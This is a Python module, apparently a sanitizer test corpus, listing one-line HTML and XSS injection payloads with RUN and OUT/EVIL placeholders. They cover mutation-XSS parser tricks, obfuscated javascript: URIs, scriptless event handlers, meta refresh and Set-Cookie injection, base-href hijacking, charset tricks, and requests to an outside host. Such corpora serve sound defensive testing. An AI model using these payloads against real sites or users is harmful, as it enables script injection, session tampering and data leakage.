"""Payloads in a page by what parsers of HTML tell apart, by what acts without a script, and by headers of a page. Words as in
``frames``."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

MARKUP = {
    "raw text ended by a name": "<xmp><a name='</xmp><img/src=x/onerror=RUN>'>x</a></xmp><noscript><a name='</noscript><img/src=x/onerror=RUN>'>x</a></noscript><noembed><a href='</noembed><img/src=x/onerror=RUN>'>x</a></noembed>",
    "tables in math": "<math><mtext><table><mglyph><style><math><table id='</table></style><img src=x onerror=RUN>'></table>",
    "forms twice": "<form><div></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=RUN src=x>'>",
    "text in a select": "<select><xmp><script>RUN</script></xmp></select><select><option><style></option></select><img src=x onerror=RUN></style></select>",
    "malignmark": "<math><mi><malignmark><svg><style><!--</style><img src=x onerror=RUN>--></svg></malignmark></mi><mglyph><p><style><img src=x onerror=RUN></style></mglyph></math>",
    "annotation": "<math><annotation-xml encoding='Text/HTML '><style><img src=x onerror=RUN></style></annotation-xml><annotation-xml><svg><style><img src=x onerror=RUN></style></svg></annotation-xml></math>",
    "too deep": "<div>" * 600 + "<svg><style><p title='</style><img src=x onerror=RUN>'>" + "</div>" * 600,
    "many attributes": "<p " + " ".join(f"a{at}=b" for at in range(900)) + " onclick=RUN id=go style='background:url(OUT/a)'>x",
    "attribute twice": "<img src=data:, src=OUT/a onerror='' onerror=RUN SRC=OUT/b><a href=# href='javascript:RUN' id=go>x</a><a HREF='javascript:RUN' href=# id=go>x</a>",
    "tag that never ends": "<p>x</p><img src=x onerror=RUN alt='",
    "comment that never ends": "<!-- > <img src=x onerror=RUN>",
    "script that hides its end": "<script><!--<script></script>--><img src=x onerror=RUN></script><script>/*</SCRIPT foo><img src=x onerror=RUN>*/</script>",
    "entities without an end": "<a href='&#106avascript:RUN' id=go>x</a><a href='&#x6aavascript:RUN' id=go>x</a><a href='javascript&NewLine;:RUN' id=go>x</a><a href='&Tab;javascript:RUN' id=go>x</a>",
    "letters that look alike": "<ſcript>RUN</ſcript><ıframe src=OUT/a></ıframe><a href='javaſcript:RUN' id=go>x</a><ImG sRc=x oNeRrOr=RUN><p ſtyle='background:url(OUT/b)'>x",
    "commands without a script": "<button commandfor=d command=show-modal id=go>x</button><dialog id=d open oncancel=RUN ontoggle=RUN onclose=RUN>x</dialog><button popovertarget=d id=go interestfor=d>x</button>",
    "events by scrolling and more": "<p style='overflow:scroll;height:1px' onscroll=RUN onscrollend=RUN onscrollsnapchange=RUN onbeforematch=RUN hidden=until-found>x</p><body onhashchange=RUN onmessage=RUN onpagereveal=RUN onerror=RUN onresize=RUN><video onloadstart=RUN src=x><source onerror=RUN src=x></video><img srcset=x onload=RUN onerror=RUN>",
    "custom elements": "<x-a is=y onconnected=RUN formassociated></x-a><button is=x-b onclick=RUN id=go>x</button><slot onslotchange=RUN></slot><div><template shadowroot=open shadowrootmode=open><style>@import 'OUT/a';</style><img src=OUT/b onerror=RUN></template></div>",
    "installs and pays": "<link rel=manifest href=/manifest.json crossorigin=use-credentials><link rel=payment-method-manifest href=OUT/a><link rel='monetization' href=OUT/b onmonetization=RUN><meta name=monetization content=OUT/c><install manifest=OUT/d></install><permission type=geolocation></permission><geolocation autolocate></geolocation>",
    "speculation by link": "<link rel=expect href=#x blocking=render><link rel=compression-dictionary href=OUT/a><link rel=dictionary href=OUT/b><link rel=preload as=fetch href=OUT/c crossorigin><link rel=modulepreload href=OUT/d><link rel=prerender href=OUT/e><link rel='next prefetch' href=OUT/f><script type=importmap>{\"imports\":{\"a\":\"OUT/g\"}}</script><script type=webbundle>{\"source\":\"OUT/h\"}</script>",
    "pings and reports": "<a href=x ping='OUT/a OUT/b' id=go attributionsrc=OUT/c attributiondestination=OUT/d>x</a><img attributionsrc src=OUT/e><form action=OUT/f rpc><input pattern=x required autofocus oninvalid=RUN></form><meta http-equiv=Content-Security-Policy content='report-uri OUT/g;img-src none'><meta http-equiv=Content-Security-Policy-Report-Only content='default-src none;report-uri OUT/h'>",
    "headers by meta of all kinds": "<meta http-equiv=Set-Cookie content='stolen=1;path=/'><meta http-equiv=origin-trial content=x><meta http-equiv=accept-ch content=DPR><meta http-equiv=delegate-ch content='sec-ch-ua OUT'><meta http-equiv=Service-Worker-Allowed content=/><meta http-equiv=pics-label content=x><meta http-equiv='Speculation-Rules' content='\"OUT/a\"'><meta http-equiv=X-UA-Compatible content='IE=7'>",
    "refresh in every spelling": "<meta http-equiv=refresh content=0;OUT/a><meta http-equiv='REFRESH ' content='0,\nURL=\"OUT/b\"'><meta http-equiv=&#114;efresh content='.5; url = OUT/c'><meta name=refresh http-equiv=refresh content='0;url=javascript:RUN'><noscript><meta http-equiv=refresh content=0;OUT/d></noscript><svg><meta http-equiv=refresh content=0;OUT/e></svg>",
    "bases that disagree": "<base href=OUT/x/><base href=EVIL/><img src=a.png><base target=_blank><svg><base href='javascript:/a/-RUN//'></svg><a href=b id=go>x</a><link rel=stylesheet href=c.css>",
    "charset changed in the page": "<meta charset=iso-2022-jp><img alt='\x1b$B'><img src=x alt='\x1b(B' onerror=RUN><meta http-equiv=content-type content='text/html;charset=utf-7'>+ADw-img src=x onerror=RUN+AD4-",
    "order of letters": "<a href='\u202ejavascript:RUN' id=go>x</a><img src='\u2066OUT/a\u2069'><p on\u200berror=RUN \ufeffonclick=RUN id=go>x</p><img \u00a0src=x\u3000onerror=RUN>",
    "null everywhere": "<im\0g src=x onerror=RUN><img\0src=x onerror=RUN><a href='java\0script:RUN' id=go>x</a><style\0>@import 'OUT/a';</style><iframe src\0doc='<script>RUN</script>'></iframe>",
    "media that names more": "<video controls src=/evil.svg><track kind=metadata default src=/run.js></video><audio src='OUT/list.m3u8' autoplay></audio><source src=OUT/a><video><source src=OUT/b type='application/x-mpegURL'></video><picture><source srcset='data:image/svg+xml,<svg onload=RUN> 1x, OUT/c 2x'><img src=x></picture>",
    "images in data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='OUT/a'/></svg>\"><img src='data:text/html,<script>RUN</script>'><a href='data:image/svg+xml,<svg onload=RUN>' id=go>x</a><img srcset='data:image/png,a OUT/b 1x'><link rel=icon href='data:text/html,<script>RUN</script>'>",
}  # fmt: skip
